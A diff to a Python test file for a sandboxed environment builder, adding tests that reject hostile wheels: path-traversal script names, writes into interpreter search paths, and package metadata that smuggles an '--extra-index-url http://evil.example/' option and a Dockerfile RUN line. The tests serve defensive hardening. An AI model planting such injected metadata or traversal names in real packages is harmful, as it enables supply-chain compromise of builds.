@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import contextlib
 import importlib.util
 import sys
 from collections.abc import Callable, Mapping
@@ -15,12 +16,25 @@ from composer_replication.sandbox.interpreter import installation_of
 from composer_replication.sandbox.request import WARM_FLAGS
 from composer_replication.tasks.exchange.pins import pins_of
 from composer_replication.tasks.sources.environment import make_environment
-from composer_replication.tasks.sources.installed import check_installed, contents
+from composer_replication.tasks.sources.installed import check_installed, check_wheel, contents
 from composer_replication.types import Deletion, TaskSpec
-from composer_replication.types.errors import SourceError
+from composer_replication.types.errors import SourceError, TaskError
 
 WriteProject = Callable[[Mapping[str, str]], Path]
 PACKAGES = f"lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"
+
+
+SPEC = TaskSpec(
+    task_id="shop/a",
+    source="shop",
+    source_digest="0" * 64,
+    instruction="Bring back a.",
+    deleted=(Deletion(path="shop.py", qualname="a", lines=1),),
+    fail_to_pass=("test_shop.py::test_a",),
+    pass_to_pass=(),
+    editable=("shop.py",),
+    test_timeout_s=60.0,
+)
 
 
 @pytest.fixture
@@ -70,18 +84,7 @@ def test_no_code_of_a_wheel_runs_outside_a_sandbox(project: Path, tmp_path: Path
     write_wheel(wheels, "alpha", written)
     sandbox, python = open_sandbox(), make(tmp_path / "env", project)
     assert "alpha" in installation_of(python).modules
-    spec = TaskSpec(
-        task_id="shop/a",
-        source="shop",
-        source_digest="0" * 64,
-        instruction="Bring back a.",
-        deleted=(Deletion(path="shop.py", qualname="a", lines=1),),
-        fail_to_pass=("test_shop.py::test_a",),
-        pass_to_pass=(),
-        editable=("shop.py",),
-        test_timeout_s=60.0,
-    )
-    assert pins_of(spec, project, python).requirements == ("alpha==9.0", "pytest==9.0")
+    assert pins_of(SPEC, project, python).requirements == ("alpha==9.0", "pytest==9.0")
     code = "import sys, alpha; print('pytest' in sys.modules, 'colorama' in sys.modules, alpha.__name__)"
     done = sandbox.run(Tree(base=tmp_path), Command(argv=(str(python), *WARM_FLAGS, code), python=python))
     assert done.stdout.split() == [b"True", b"False", b"alpha"], done.stderr
@@ -143,36 +146,96 @@ def write(folder: Path, path: str) -> None:
         ("lib/python3.11/dist-packages/x.pth", "where an interpreter may look"),
         ("lib/python311.zip", "where an interpreter may look"),
         ("local/lib/python3.11/dist-packages/x.pth", "where an interpreter may look"),
+        ("lib64/python3.13t/site-packages/x.pth", "where an interpreter may look"),
+        ("lib/python3.9/site-packages/x.pth", "brings 'lib/python3.9/site-packages/x.pth'"),
+        ("bin/Modules/Setup.local", "where an interpreter may look"),
         ("Lib/os.py", "where an interpreter may look"),
         (f"{PACKAGES}/pygments/styles/new.py", "is a part of pygments"),
         (f"{PACKAGES}/_pytest.abi3.so", "is a part of pytest"),
         (f"{PACKAGES}/py.so", "is a part of pytest"),
+        (f"{PACKAGES}/pluggy.cpython-313-x86_64-linux-gnu.so", "is a part of pluggy"),
     ],
 )
 def test_a_place_where_an_interpreter_looks_is_not_for_dependencies(environment: Path, path: str, reason: str) -> None:
-    before = contents(environment)
+    before = contents(environment, environment / PACKAGES)
     write(environment, path)
     with pytest.raises(SourceError, match=reason):
-        check_installed(environment, before, [], Path(sys.executable))
+        check_installed(environment, environment / PACKAGES, before, [], Path(sys.executable))
 
 
 def test_a_link_is_no_file_of_a_wheel(environment: Path) -> None:
-    before = contents(environment)
+    before = contents(environment, environment / PACKAGES)
     (environment / "share").symlink_to("/usr/share")
     with pytest.raises(SourceError, match="brings 'share'"):
-        check_installed(environment, before, [], Path(sys.executable))
+        check_installed(environment, environment / PACKAGES, before, [], Path(sys.executable))
 
 
 def test_data_scripts_and_packages_are_for_dependencies(environment: Path, tmp_path: Path) -> None:
-    before = contents(environment)
+    before = contents(environment, environment / PACKAGES)
     own = write_wheel(tmp_path, "pytest", {"pytest/__init__.py": "stranger = 1\n", "_pytest/config.py": "stranger = 1\n"})
     paths = ["LICENSE", "bin/alpha", "bin/pip", "etc/alpha/x.json", "share/man/man1/alpha.1", "include/alpha.h", "lib/alpha.so"]
-    parts = [f"{PACKAGES}/{name}" for name in ("alpha.py", "alpha-9.0.dist-info/METADATA", "pytest/__init__.py")]
+    paths += ["docs/index.md", "tests/test_alpha.py", "usr/share/applications/alpha.desktop", "lib/pythonista/x", "sbin/alpha"]
+    names = (
+        "alpha.py",
+        "alpha-9.0.dist-info/METADATA",
+        "pytest/__init__.py",
+        "py.typed",
+        "pytest.ini",
+        "attr.json",
+        "pluggy.pyi",
+    )
+    parts = [f"{PACKAGES}/{name}" for name in names]
     for path in [*paths, *parts, f"{PACKAGES}/_pytest/__pycache__/config.{sys.implementation.cache_tag}.pyc"]:
         write(environment, path)
-    check_installed(environment, before, [own], Path(sys.executable))
+    check_installed(environment, environment / PACKAGES, before, [own], Path(sys.executable))
     assert all((environment / path).read_text() == "stranger = 1\n" for path in [*paths, *parts])
     assert not list((environment / PACKAGES / "_pytest" / "__pycache__").iterdir()), "a part of pytest that no wheel shows"
+
+
+def test_folders_without_end_are_refused(tmp_path: Path) -> None:
+    """Python's own tools for trees would give up on them."""
+    with pytest.raises(SourceError, match=r"alpha-9.0-py3-none-any.whl has folders below 'a/a/.* that are 101 deep"):
+        check_wheel(write_wheel(tmp_path, "alpha", {"a/" * 101 + "x": ""}))
+    check_wheel(write_wheel(tmp_path, "alpha", {"a/" * 20 + "x": ""}))
+
+
+@pytest.mark.slow
+def test_the_name_of_a_script_is_no_path(tmp_path: Path, wheels: Path, project: Path) -> None:
+    """Of releases of pip some cut it, some refuse it, and some would write there."""
+    kept = tmp_path / "kept"
+    kept.write_text("precious")
+    scripts = f"[console_scripts]\n{kept} = alpha:main\n../../../new = alpha:main\n"
+    write_wheel(wheels, "alpha", {"alpha-9.0.dist-info/entry_points.txt": scripts})
+    with contextlib.suppress(SourceError):
+        make(tmp_path / "env", project)
+    assert kept.read_text() == "precious"
+    assert not list(tmp_path.glob("new*"))
+
+
+@pytest.mark.slow
+def test_pip_goes_and_what_begins_with_its_name_stays(tmp_path: Path, wheels: Path, project: Path) -> None:
+    write_wheel(wheels, "alpha", {"alpha-9.0.data/scripts/pip-compile": "#!python\n"})
+    make(tmp_path / "env", project)
+    assert [path.name for path in sorted((tmp_path / "env" / "bin").glob("pip*"))] == ["pip-compile"]
+    assert not list((tmp_path / "env" / PACKAGES).glob("pip*"))
+
+
+@pytest.mark.slow
+def test_what_a_distribution_says_of_itself_reaches_no_dockerfile(tmp_path: Path, wheels: Path, project: Path) -> None:
+    says = "Metadata-Version: 2.1\nName: evil\nVersion: 1 --extra-index-url http://evil.example/\n RUN touch /pwned\n"
+    planted = {"alpha-9.0.data/purelib/evil-1.dist-info/METADATA": says}
+    write_wheel(wheels, "alpha", planted, requires=["evil; python_version < '3'"])
+    python = make(tmp_path / "env", project)
+    with pytest.raises(TaskError, match=r"its name is 'evil' and its version ' +1 --extra-index-url"):
+        pins_of(SPEC, project, python)
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("path", ["shop-0.dist-info", "shop-0.dist-info/METADATA/x"])
+def test_the_project_s_own_name_is_not_for_dependencies(tmp_path: Path, wheels: Path, project: Path, path: str) -> None:
+    write_wheel(wheels, "alpha", {f"alpha-9.0.data/purelib/{path}": ""})
+    with pytest.raises(SourceError, match="a dependency has taken the place of the project's own name"):
+        make(tmp_path / "env", project)
 
 
 @pytest.mark.slow
